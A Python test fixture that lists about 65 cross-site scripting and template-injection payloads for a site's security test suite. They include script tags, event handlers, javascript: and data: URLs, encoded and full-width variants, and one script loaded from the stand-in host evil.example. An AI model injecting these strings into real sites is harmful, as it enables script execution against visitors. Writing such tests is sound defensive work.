"""Hostile strings a reader, a journalist or a careless copy-paste might submit.

Each one is stored or reflected through every field a person controls and the
rendered page is checked by ``tests.security.html_audit``. The list mixes the
classics with encoded, full-width and template-syntax variants; short ones
come first so fields with a small max_length (nicknames: 30, short names: 20)
still get real attacks after truncation.
"""

PAYLOADS = [
    # Plain script elements, in every spelling a browser forgives.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(3)</script>",
    "<script>alert`4`</script>",
    "<script\x0c>alert(5)</script>",
    "<<script>alert(6);//<</script>",
    # Event handlers on every element that fires one without a click.
    "<img src=x onerror=alert(7)>",
    '<img src="x" onerror="alert(8)">',
    "<img/src/onerror=alert(9)>",
    "<svg onload=alert(10)>",
    "<svg/onload=alert(11)>",
    "<body onload=alert(12)>",
    "<iframe src=javascript:alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<input autofocus onfocus=alert(16)>",
    "<marquee onstart=alert(17)>跑马灯</marquee>",
    "<div onmouseover=alert(18)>悬停</div>",
    "<a onclick=alert(19)>点我</a>",
    # Dangerous URLs in links, frames and forms.
    '<a href="javascript:alert(20)">点我</a>',
    '<a href="JaVaScRiPt:alert(21)">点我</a>',
    '<a href=" javascript:alert(22)">点我</a>',
    '<a href="jav&#x09;ascript:alert(23)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">数据</a>',
    '<a href="vbscript:msgbox(25)">旧招</a>',
    '<form action="javascript:alert(26)"><button>提交</button></form>',
    '<object data="data:text/html,<script>alert(27)</script>"></object>',
    '<embed src="javascript:alert(28)">',
    "javascript:alert(29)",
    # SVG and MathML tricks.
    "<svg><script>alert(30)</script></svg>",
    '<svg><a xlink:href="javascript:alert(31)"><text x="0" y="20">点</text></a></svg>',
    "<svg><animate onbegin=alert(32) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(33)>",
    # Attribute and element breakers: close what we are inside of.
    '"><script>alert(34)</script>',
    "'><img src=x onerror=alert(35)>",
    '" onmouseover="alert(36)" x="',
    "' autofocus onfocus='alert(37)",
    "</title><script>alert(38)</script>",
    "</textarea><script>alert(39)</script>",
    "</script><script>alert(40)</script>",
    "</script><img src=x onerror=alert(41)>",
    '"}]</script><script>alert(42)</script>',
    "--><script>alert(43)</script><!--",
    '<!--<img src="--><img src=x onerror=alert(44)//">',
    # Broken markup a lenient parser might repair into something live.
    "<img src=x onerror=alert(45)",
    "<svg><p><style><img src=x onerror=alert(46)></style></p></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(47)>">',
    "<<img src=x onerror=alert(48)>>",
    # Entity- and URL-encoded variants that must stay text, not be decoded twice.
    "&lt;script&gt;alert(49)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(50)&#62;",
    "%3Cscript%3Ealert(51)%3C%2Fscript%3E",
    "%22%3E%3Csvg%20onload%3Dalert(52)%3E",
    "\\u003cscript\\u003ealert(53)\\u003c/script\\u003e",
    # Full-width look-alikes (some normalisers fold them to ASCII).
    "＜script＞alert(54)＜/script＞",
    "＜img src=x onerror=alert(55)＞",
    "ｊａｖａｓｃｒｉｐｔ：alert(56)",
    # Template syntax: Django, Jinja, Angular, Vue must not evaluate it.
    "{{ 7*7 }}{% debug %}",
    "{% load static %}{{ request.user }}",
    "{{constructor.constructor('alert(59)')()}}",
    "${alert(60)}",
    # Style-based and CSS-expression leftovers.
    '<div style="background:url(javascript:alert(61))">样式</div>',
    "<style>@import 'javascript:alert(62)';</style>",
    # Meta refresh and base hijacks.
    '<meta http-equiv="refresh" content="0;url=javascript:alert(63)">',
    '<base href="javascript:alert(64)//">',
    # Chinese text wrapped round an attack, as a real troll would write it.
    "乐至新闻<script>alert(65)</script>好评",
]
